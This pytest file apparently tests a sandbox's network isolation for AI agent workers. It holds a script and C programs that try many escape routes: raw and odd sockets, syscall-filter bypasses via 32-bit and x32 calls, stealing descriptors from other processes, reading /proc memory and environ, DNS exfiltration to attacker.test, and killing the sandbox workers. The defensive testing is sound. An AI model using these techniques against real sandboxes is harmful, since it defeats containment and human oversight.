"""Ways out of the cell, in its three forms, judged on the wire; and what becomes of its worker."""

import subprocess

import pytest
from cell_forms import FORMS, LIMIT, CellRunner, left, runner  # noqa: F401
from conftest import IMAGE
from internet import Wire, address_of

WAYS = r"""
import array, ctypes, errno, fcntl, os, select, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
OUT = "8.8.8.8"
def quiet(f, *a):
    try: return f(*a)
    except (OSError, TypeError, OverflowError) as e: return e
def aim(s, to=(OUT, 443)):
    s.setblocking(False)
    quiet(s.connect, to)
    select.select([], [s], [], 0.05)
    quiet(s.send, b"leaked")
def tcp(): return socket.socket(socket.AF_INET, socket.SOCK_STREAM)
def throw(s):
    s.setblocking(False)
    quiet(s.connect, (OUT, 443))
    quiet(s.send, b"leaked")
def sockets():
    for family in range(50):
        for kind in (1, 2, 3, 5, 6, 10):
            for protocol in (0, 1, 6, 17, 41, 47, 58, 132, 136, 255, 262):
                s = quiet(socket.socket, family, kind, protocol)
                if isinstance(s, socket.socket):
                    if family not in (1, 16):
                        quiet(s.sendto, b"leaked", (OUT, 53))
                        aim(s) if kind == 1 else None
                    s.close()
def udp():
    s = quiet(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    assert isinstance(s, OSError), "udp"
def rebinding():
    for device in os.listdir("/sys/class/net"):
        s = tcp()
        quiet(s.setsockopt, socket.SOL_SOCKET, 25, device.encode() + b"\0")
        quiet(s.setsockopt, socket.SOL_SOCKET, 25, b"")
        for level, name in ((1, 62), (0, 50), (41, 76), (1, 36), (0, 15), (0, 19), (1, 5)):
            for index in range(4):
                quiet(s.setsockopt, level, name, struct.pack("i", index))
                quiet(s.setsockopt, level, name, struct.pack(">i", index))
        aim(s)
def every_option():
    values = [struct.pack("i", n) for n in range(4)] + [b"", b"eth0\0", struct.pack("=HHI8x", 2, 0, 0)]
    held = []
    for level in (0, 1, 6, 17, 41, 132, 255, 263, 284):
        for name in range(130):
            s = tcp()
            if [v for v in values if not isinstance(quiet(s.setsockopt, level, name, v), Exception)]:
                throw(s)
                held.append(s)
            assert s.getsockopt(socket.SOL_SOCKET, 25, 16) == b"lo\0", (level, name)
    assert len(held) > 30
    time.sleep(0.2)
def sources():
    for own in (socket.gethostbyname(socket.gethostname()), "127.0.0.1", "8.8.4.4"):
        s = tcp()
        quiet(s.bind, (own, 0))
        aim(s)
def disconnecting():
    s = tcp()
    for _ in range(3):
        libc.connect(s.fileno(), struct.pack("H14x", 0), 16)
        aim(s)
    l = tcp(); l.bind(("127.0.0.1", 0)); l.listen()
    s = tcp(); s.connect(l.getsockname()); a, _ = l.accept()
    for one in (s, a):
        libc.connect(one.fileno(), struct.pack("H14x", 0), 16)
        aim(one)
def fast_open():
    for option in (23, 30, 34):
        s = tcp(); s.setblocking(False)
        quiet(s.setsockopt, 6, option, 1)
        quiet(s.setsockopt, 6, 34, 1)
        quiet(s.sendto, b"leaked", 0x20000000, (OUT, 443))
        aim(s)
def packet_info():
    s = tcp(); s.setblocking(False)
    for index in range(4):
        data = struct.pack("I4s4s", index, b"\0" * 4, b"\0" * 4)
        quiet(s.sendmsg, [b"leaked"], [(0, 8, data)], 0x20000000, (OUT, 443))
def mapped():
    for index in range(4):
        s = quiet(socket.socket, socket.AF_INET6, socket.SOCK_STREAM)
        if isinstance(s, socket.socket):
            quiet(s.bind, ("fe80::dead", 0, 0, index))
            aim(s, ("::ffff:" + OUT, 443))
def passed():
    a, b = socket.socketpair()
    if os.fork() == 0:
        s = tcp()
        socket.send_fds(a, [b"x"], [s.fileno()]); os._exit(0)
    _, fds, _, _ = socket.recv_fds(b, 1, 1)
    aim(socket.socket(fileno=fds[0]))
def taken():
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        fd = libc.syscall(434, pid, 0)
        for n in range(40):
            got = libc.syscall(438, fd, n, 0) if fd >= 0 else -1
            if got >= 0 and pid != os.getpid():
                sys.exit(f"took descriptor {n} of {pid}")
        if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0 and open(f"/proc/{pid}/comm").read().startswith("codex-"):
            sys.exit(f"traced {pid}")
        for name in ("mem", "fd/3", "fd/5", "environ", "auxv"):
            if pid != os.getpid() and open(f"/proc/{pid}/comm").read().startswith("codex-"):
                f = quiet(os.open, f"/proc/{pid}/{name}", os.O_RDONLY)
                assert isinstance(f, OSError), (pid, name)
def listeners():
    # a filter of one's own that would answer for all: SECCOMP_RET_USER_NOTIF, then CONTINUE
    code = struct.pack("HBBI", 6, 0, 0, 0x7fc00000)
    class P(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
    assert libc.syscall(317, 1, 8, ctypes.byref(P(1, code))) < 0, "listener"
def namespaces():
    assert libc.unshare(0x10000000 | 0x40000000) < 0
    assert libc.syscall(435, ctypes.create_string_buffer(88), 88) < 0
    assert libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0
def races():
    stop = []
    def meddle():
        while not stop:
            for fd in range(5, 20): quiet(os.dup2, 0, fd)
            for fd in range(5, 20): quiet(os.close, fd)
    def make():
        for _ in range(60):
            s = quiet(tcp)
            if isinstance(s, socket.socket):
                quiet(aim, s)
                s.detach()
    threads = [threading.Thread(target=make) for _ in range(8)]
    m = threading.Thread(target=meddle); m.start()
    for t in threads: t.start()
    for t in threads: t.join()
    stop.append(1); m.join()
def interrupted():
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
    for _ in range(1000):
        s = quiet(tcp)
        if isinstance(s, socket.socket): throw(s)
    signal.setitimer(signal.ITIMER_REAL, 0)
    for _ in range(40):
        pid = os.fork()
        while pid == 0:
            s = quiet(tcp)
            if isinstance(s, socket.socket): throw(s)
        time.sleep(0.003)
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    throw(tcp())
def executed():
    def make():
        while True: libc.socket(2, 1, 0)
    for _ in range(4): threading.Thread(target=make, daemon=True).start()
    time.sleep(0.02)
    os.execv(sys.executable, [sys.executable, "-c", sys.orig_argv[2], "inherited"])
def inherited():
    for fd in [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2]:
        s = quiet(lambda: socket.socket(fileno=fd))
        if isinstance(s, socket.socket): throw(s)
    time.sleep(0.2)
def flood():
    held = []
    while True:
        s = quiet(tcp)
        if isinstance(s, OSError): break
        held.append(s)
    for s in held[:50]: aim(s)
def signals():
    me = os.getpid()
    for _ in range(4):
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try: comm = open(f"/proc/{pid}/comm").read()
            except OSError: continue
            if pid == 1 or comm.startswith("codex-"):
                for sig in (19, 9): quiet(os.kill, pid, sig)
        s = quiet(tcp)
        if isinstance(s, socket.socket): aim(s)
        time.sleep(0.3)
globals()[sys.argv[1]]()
print("tried")
"""
NAMES = [line[4:].split("(")[0] for line in WAYS.splitlines() if line.startswith("def ")]
TRIED = [n for n in NAMES if n not in ("quiet", "aim", "tcp", "throw", "inherited")]


@pytest.mark.parametrize("way", TRIED)
def test_no_way_out(runner, way, sinks, wire):
    done = runner.run("python3", "-c", WAYS, way, options=LIMIT)
    assert done.ok().out.strip().endswith("tried"), done
    assert left(wire, sinks) == ([], [])


def test_the_same_leave_without_the_cell(lab, internet, sinks):
    """The opposite: so the ways are ways, and the judge sees them."""
    plain = CellRunner(lab, ("--cap-drop=ALL",))
    for way in ("sources", "disconnecting", "mapped", "passed"):
        internet.reset()
        made = plain.arguments(("python3", "-c", WAYS, way), None, None, LIMIT, None, None, ["--egress=off"], False)
        plain.docker("run", "--rm", "--pull=never", *made)
        assert sinks.seen() != [], way


def test_ipv6_is_as_strict(runner, network, sinks, wire):
    net = network("--ipv6", "--subnet", "fd77:1:7::/64")
    for way in ("mapped", "sockets"):
        done = runner.run("python3", "-c", WAYS, way, network=net, options=LIMIT)
        assert done.ok().out.strip().endswith("tried"), done
    assert left(wire, sinks) == ([], [])


RESOLVER = """
import socket, struct
s = socket.socket(); s.settimeout(1)
q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\6secret\\10attacker\\4test\\0" + struct.pack(">HH", 1, 1)
for port in (53, *range(30000, 30010)):
    try:
        s = socket.socket(); s.settimeout(1); s.connect(("127.0.0.11", port))
        s.send(struct.pack(">H", len(q)) + q); print(s.recv(100))
    except OSError as e: print(e)
"""


def test_the_engines_resolver_carries_nothing(runner, network, dns):
    net = network()
    done = runner.run("python3", "-c", RESOLVER, network=net)
    assert dns.asked("attacker.test") == [] and "b'" not in done.out, done
    done = runner.run("curl", "-sS", "https://api.openai.com/", network=net).ok()
    assert done.out == "this is api.openai.com\n"


def test_neighbours_and_the_gateway_are_refused(runner, start, wire, sinks):
    script = (
        "import socket\n"
        f"for to in (('{Wire.GATEWAY}', 22), ('{Wire.GATEWAY}', 53), ('172.30.0.2', 80)):\n"
        "    try: socket.create_connection(to, 0.2).send(b'x')\n"
        "    except OSError: pass\n"
    )
    runner.run("python3", "-c", script).ok()
    assert left(wire, sinks) == ([], [])


def build(tmp_path, name, *flags):
    """A program that makes a UDP and a TCP socket by system calls of its own."""
    source = tmp_path / f"{name}.c"
    source.write_text(
        """
#if defined(__i386__) || defined(INT80)
/* 32-bit calls, which a 64-bit program may make as well. */
static long one(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory");
	return r;
}
#define SOCKET 359
#define CONNECT 362
#define EXIT 1
#ifdef SOCKETCALL
static long call(long n, long a, long b, long c)
{
	volatile int to[3] = {a, b, c};
	return n == EXIT ? one(n, a, b, c) : one(102, n == SOCKET ? 1 : 3, (long)to, 0);
}
#else
#define call one
#endif
#else
static long call(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
#define SOCKET (41 | X32)
#define CONNECT (42 | X32)
#define EXIT 60
#endif
#ifndef X32
#define X32 0
#endif
void _start(void)
{
	static const unsigned char to[16] = {2, 0, 1, 187, 8, 8, 8, 8};
	for (int type = 1; type <= 3; type++) {
		long s = call(SOCKET, 2, type, type == 3 ? 6 : 0);
		if (s >= 0 && (type == 1 || call(CONNECT, s, (long)to, 16) == 0))
			call(CONNECT, s, (long)to, 16);
	}
	call(EXIT, 0, 0, 0);
}
"""
    )
    program = tmp_path / name
    subprocess.run(
        ["gcc", "-O1", "-static", "-nostdlib", "-fno-stack-protector", *flags, "-o", program, source],
        check=True,
    )
    program.chmod(0o755)
    tmp_path.chmod(0o755)
    return program


KINDS = {
    "static": (),
    "32 bit": ("-m32",),
    "socketcall": ("-m32", "-DSOCKETCALL"),
    "32-bit calls of a 64-bit program": ("-DINT80", "-no-pie"),
    "x32": ("-DX32=0x40000000",),
}


@pytest.mark.parametrize("kind", KINDS)
def test_programs_of_other_kinds(runner, tmp_path, kind, sinks, wire):
    made = build(tmp_path, "odd", *KINDS[kind])
    runner.run("timeout", "5", "/odd", options=["-v", f"{made}:/odd:ro"])
    assert left(wire, sinks) == ([], [])


def test_they_leave_without_the_cell(lab, internet, tmp_path, sinks):
    """But for x32, which many kernels don't have."""
    docker = CellRunner(lab, ()).docker
    for kind in list(KINDS)[:4]:
        internet.reset()
        made = build(tmp_path, "odd", *KINDS[kind])
        docker("run", "--rm", "--pull=never", "-v", f"{made}:/odd:ro", "--entrypoint", "timeout", IMAGE, "2", "/odd")
        assert sinks.seen() != [], kind


# ---- Workers that are ended ------------------------------------------------------------------


def test_workers_that_are_killed_come_back(runner, sinks):
    """Where the command has the workers' uid it may end them; it pays for that alone."""
    done = runner.shell(
        "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -9 ${p#/proc/}; done;"
        "sleep 1; curl -sS -m 20 --retry 5 --retry-all-errors https://api.openai.com/",
        options=LIMIT,
    ).ok()
    assert done.lines()[-1] == "this is api.openai.com"
    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]


def test_workers_that_are_stopped_go_on(runner, sinks):
    done = runner.shell(
        "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -STOP ${p#/proc/}; done;"
        "curl -sS -m 20 https://api.openai.com/",
    ).ok()
    assert done.lines()[-1] == "this is api.openai.com"


def test_calls_that_wait_when_the_worker_is_stopped_or_killed(start, runner, sinks, wire):
    """By root or, where there is none, by its own uid. Each is answered, and those that come after."""
    script = WAYS + """
made = [0]
def make():
    end = time.monotonic() + 4
    while time.monotonic() < end:
        s = quiet(tcp)
        if isinstance(s, socket.socket):
            throw(s)
            made[0] += 1
threads = [threading.Thread(target=make) for _ in range(4)]
print("begun", flush=True)
for t in threads: t.start()
for t in threads: t.join()
before = made[0]
for _ in range(100):
    if isinstance(quiet(tcp), socket.socket): break
    time.sleep(0.1)
else: sys.exit("no socket any more")
print("done", before > 10)
"""
    script = script.replace('globals()[sys.argv[1]]()\nprint("tried")\n', "")
    box = start("python3", "-c", script, options=LIMIT).until_says("begun")
    user = "1000" if "--user" in runner.flags else "0"
    find = "for c in /proc/[0-9]*/comm; do [ $(cat $c) != codex-cell ] || { p=${c%/comm}; kill -$1 ${p#/proc/}; }; done"
    # A stop by root is meant, and stays.
    for sign in ("STOP", "KILL", "KILL", "STOP", "CONT"):
        box.exec("sh", "-c", find, "sh", sign, user=user)
    assert box.wait(60) == 0, box.logs()
    assert "done True" in box.logs()
    assert left(wire, sinks) == ([], [])


def test_a_worker_that_is_killed_too_often_stays_down(lab, internet, start, sinks, wire):
    """No socket can be had then, and none is without the cell."""
    plain = CellRunner(lab, FORMS["no capability"])
    script = """
import errno, os, socket, time
def workers():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if open(f"/proc/{pid}/comm").read() == "codex-cell\\n": yield int(pid)
        except OSError: pass
for _ in range(400):
    for pid in workers():
        try: os.kill(pid, 9)
        except OSError: pass
    time.sleep(0.05)
try: socket.socket(); print("had one")
except OSError as e: print(errno.errorcode[e.errno])
"""
    done = plain.run("python3", "-c", script, timeout=120).ok()
    if "had one" not in done.out:  # a kernel with Landlock's scopes keeps the workers from it
        assert "ENOSYS" in done.out, done
    assert left(wire, sinks) == ([], [])
